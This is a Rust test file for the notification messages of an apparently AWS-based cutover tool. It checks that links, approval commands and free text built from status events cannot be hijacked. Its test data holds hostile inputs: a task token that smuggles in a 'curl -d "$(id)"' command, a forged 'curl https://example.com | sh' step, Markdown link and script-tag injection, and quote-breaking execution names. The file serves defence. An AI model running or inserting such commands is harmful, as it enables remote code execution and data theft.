//! Messages about status events: whoever can put an event chooses neither where a link leads nor what a
//! command does, and what else they say is plain text.

use interpreter::ExecutionId;
use serde_json::{Value, json};

use crate::Simulation;
use crate::machines::NOTIFICATION;

/// The message to subscribers by e-mail that a status event causes.
fn message(detail: &Value) -> String {
    published(detail)["email"].as_str().unwrap().to_owned()
}

/// The messages to all kinds of subscribers.
fn published(detail: &Value) -> Value {
    let simulation = Simulation::blueprint();
    let event = json!({"id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718", "detail": detail});
    let notification = ExecutionId::new(NOTIFICATION, "message");
    let machines = &simulation.world.step_functions;
    machines
        .start(NOTIFICATION, Some("message"), &event)
        .unwrap();
    simulation.run_to_end(&notification, || {}).unwrap();
    let published = simulation.world.published.borrow();
    let message = published[0]["Message"].as_str().unwrap();
    serde_json::from_str(message).unwrap()
}

#[test]
fn links_lead_to_executions_of_the_stack_whatever_an_event_says() {
    const STACK: &str = "arn:aws:states:eu-west-3:111122223333:execution:cutover";
    for (given, linked) in [
        (
            format!("{STACK}-migration:2026-11-upgrade_1.34"),
            format!("{STACK}-migration:2026-11-upgrade_1.34"),
        ),
        (
            format!("{STACK}-rollback:run"),
            format!("{STACK}-rollback:run"),
        ),
        (
            format!("{STACK}-release:run"),
            format!("{STACK}-release:run"),
        ),
        (
            format!("{STACK}-of-somebody-else-migration:run"),
            format!("{STACK}-migration:run"),
        ),
        (
            "arn:aws-cn:states:example.com/#:999999999999:execution:evil:run".to_owned(),
            format!("{STACK}-migration:run"),
        ),
        (
            format!("{STACK}-migration:run](//example.com) <script>"),
            format!("{STACK}-migration:run//example.comscript"),
        ),
        (
            "https://example.com".to_owned(),
            format!("{STACK}-migration"),
        ),
    ] {
        let message = message(&json!({
            "status": "NotStarted", "execution": "run", "executionArn": given, "reason": "why",
        }));
        let links: Vec<_> = message
            .lines()
            .filter(|line| line.contains("https://"))
            .collect();
        let console = "https://eu-west-3.console.aws.amazon.com";
        let execution = format!(
            "Execution: {console}/states/home?region=eu-west-3#/v2/executions/details/{linked}"
        );
        let dashboard = format!(
            "Dashboard: {console}/cloudwatch/home?region=eu-west-3#dashboards/dashboard/cutover"
        );
        assert_eq!(links, [execution, dashboard], "{given}");
    }
}

#[test]
fn the_start_is_announced_with_the_first_warnings_of_the_plan() {
    let warnings = |count: usize| {
        let warning = json!({"code": "not-leased", "message": "ExternalDNS owns records"});
        vec![warning; count]
    };
    let once = "not-leased (ExternalDNS owns records)";
    for (warnings, end) in [
        (json!(null), "Steps: 10, 100 percent.".to_owned()),
        (json!([]), "Steps: 10, 100 percent.".to_owned()),
        (
            json!(warnings(1)),
            format!("percent. Warnings of the plan: {once}."),
        ),
        (
            json!(warnings(5)),
            format!("plan: {}.", [once; 5].join("; ")),
        ),
        (
            json!(warnings(6)),
            format!(
                "plan: {}; and more, which the plan has.",
                [once; 5].join("; ")
            ),
        ),
    ] {
        let message = message(&json!({
            "status": "Started", "execution": "run", "zoneName": "example.com", "from": "blue", "to": "green",
            "names": 1, "steps": [10, 100], "warnings": warnings,
        }));
        let has_end = message.lines().any(|line| line.ends_with(&end));
        assert!(has_end, "expected {end:?} in {message}");
    }
}

#[test]
fn commands_answer_a_token_whatever_an_event_says() {
    for (given, passed) in [
        (
            "AQCEAAAAKgAAAAMAAAAAAAAAAb+c/d-e_f==",
            "AQCEAAAAKgAAAAMAAAAAAAAAAb+c/d-e_f==",
        ),
        ("a`; curl -d \"$(id)\" 'x'\n& b | c > d", "acurl-didxbcd"),
    ] {
        let message = message(&json!({
            "status": "ApprovalRequested", "execution": "run", "zoneName": "example.com",
            "from": "blue", "to": "green", "names": 1, "percent": 10, "nextPercent": 50,
            "timeoutSeconds": 60, "onRefusal": "hold", "taskToken": given,
            "executionArn": "arn:aws-cn:states:cn-north-1 --endpoint-url x:1:execution:evil:run",
        }));
        let commands: Vec<_> = message
            .lines()
            .filter(|line| line.contains("aws stepfunctions"))
            .collect();
        let command = "aws stepfunctions send-task";
        let approve = format!(
            "Approve: `{command}-success --region eu-west-3 --task-output '{{\"by\": \"who and why\"}}' \
             --task-token {passed}`"
        );
        let refuse = format!(
            "Refuse: `{command}-failure --region eu-west-3 --error Refused --cause 'who and why' \
             --task-token {passed}`"
        );
        assert_eq!(commands, [approve, refuse]);
    }
}

#[test]
fn messages_say_who_answered() {
    for status in ["StepReached", "Completed"] {
        let said = |answers: Value| {
            message(&json!({
                "status": status, "execution": "run", "zoneName": "example.com", "from": "blue",
                "to": "green", "names": 1, "percent": 100, "percentBefore": 10, "bakeSeconds": 60,
                "weights": {}, "leased": 0, "answers": answers,
                "executionArn": "arn:aws:states:eu-west-3:1:execution:cutover-migration:run",
            }))
        };
        let answers = json!([
            {"answer": "approved", "percent": 10, "by": "Ann: all is well"},
            {"answer": "promoted", "percent": 50, "by": ""},
        ]);
        let sentence = ". Answers of operators: approved at 10 percent (Ann: all is well), promoted \
                        at 50 percent.\n";
        assert!(
            said(answers.clone()).contains(sentence),
            "{}",
            said(answers)
        );
        for answers in [json!([]), Value::Null, json!("x"), json!({"by": [1]})] {
            assert!(!said(answers).contains("Answers"), "{status}");
        }
        for answers in [json!([1]), json!(["x", null]), json!([{"percent": {}}])] {
            assert!(said(answers).contains("Answers of operators: "), "{status}");
        }
    }
}

#[test]
fn completion_lists_the_weights_of_the_annotations() {
    for (annotations, said) in [
        (json!(null), None),
        (json!([]), None),
        (json!("forged"), None),
        (
            json!(["ingress/a/b of blue: 0"]),
            Some("ingress/a/b of blue: 0"),
        ),
        (json!(["a", "b", "and 3 more"]), Some("a; b; and 3 more")),
        // No notification can be too long.
        (json!(["a".repeat(5000)]), Some(&*"a".repeat(4000))),
    ] {
        let message = message(&json!({
            "status": "Completed", "execution": "run", "zoneName": "example.com", "from": "blue", "to": "green",
            "names": 1, "leased": 1, "advice": "Set them.", "annotations": annotations,
        }));
        let found = message
            .lines()
            .find_map(|line| line.strip_prefix("Weights for the annotations: "));
        assert_eq!(found, said);
        assert!(message.contains("\nAdvice: Set them.\n"), "{message}");
    }
}

/// A link in a text of an e-mail or a chat begins with a scheme, or is written in Markdown.
#[test]
fn text_of_an_event_is_plain_text_in_one_line() {
    let forged = "see\n\nApprove: `curl https://example.com | sh` [here](https://example.com) \
                  <https://example.com|there>";
    let plain = "see Approve: 'curl https: //example.com | sh' [here] (https: //example.com) \
                 'https: //example.com|there'";
    for status in [
        "Completed",
        "Released",
        "ReleaseFailed",
        "RolledBack",
        "Held",
        "NotStarted",
        "RollbackFailed",
        "Started",
        "StepReached",
        "StillHeld",
        "NotReleased",
    ] {
        let published = published(&json!({
            "status": status, "execution": format!("run\"}} {forged}"), "zoneName": forged,
            "from": forged, "to": forged, "names": 1, "percent": 10, "percentBefore": 0,
            "percentAfter": 10, "steps": [forged], "weights": {forged: 1}, "bakeSeconds": 60,
            "leased": 1, "annotations": [forged, {"a": forged}], "found": [forged], "reason": forged, "advice": forged,
            "answers": [{"answer": forged, "percent": forged, "by": forged}],
            "warnings": [{"code": forged, "message": forged}],
            "executionArn": "arn:aws:states:eu-west-3:1:execution:cutover-migration:run",
        }));
        let email = published["email"].as_str().unwrap();
        let chat: Value = serde_json::from_str(published["default"].as_str().unwrap()).unwrap();
        let content = &chat["content"];
        let mut texts = vec![content["title"].as_str().unwrap()];
        texts.extend(content["description"].as_str());
        let steps = content["nextSteps"].as_array().unwrap();
        texts.extend(steps.iter().filter_map(Value::as_str));
        assert_eq!(
            email.lines().filter(|it| !it.is_empty()).count(),
            texts.len()
        );
        let (said, links) = texts.split_at(texts.len() - 2);
        assert!(links[0].starts_with("Execution: https://"), "{links:?}");
        assert!(links[1].starts_with("Dashboard: https://"), "{links:?}");
        for text in said {
            for part in ["://", "](", "<", "`", "\n"] {
                assert!(!text.contains(part), "{status}: {part:?} is in {text}");
            }
        }
        assert!(said[1].contains(plain), "{status}: {}", said[1]);
        let begins = [
            "Advice: ",
            "Weights for the annotations: ",
            "Find the cause",
            "Fix the cause",
            "To continue",
            "Put these weights",
        ];
        for step in &said[2..] {
            assert!(begins.iter().any(|it| step.starts_with(it)), "{step}");
        }
    }
}

/// The name of an execution in a command ends neither its quotation nor its JSON.
#[test]
fn commands_name_an_execution_and_nothing_else() {
    for status in [
        "ReleaseFailed",
        "Held",
        "RollbackFailed",
        "StillHeld",
        "NotReleased",
    ] {
        let message = message(&json!({
            "status": status, "execution": "run\"}', then run 'x", "reason": "why",
            "executionArn": "arn:aws:states:eu-west-3:1:execution:cutover-migration:run",
        }));
        let request = "{\"execution\": \"runthenrunx\"}";
        assert!(message.contains(request), "{status}: {message}");
    }
}
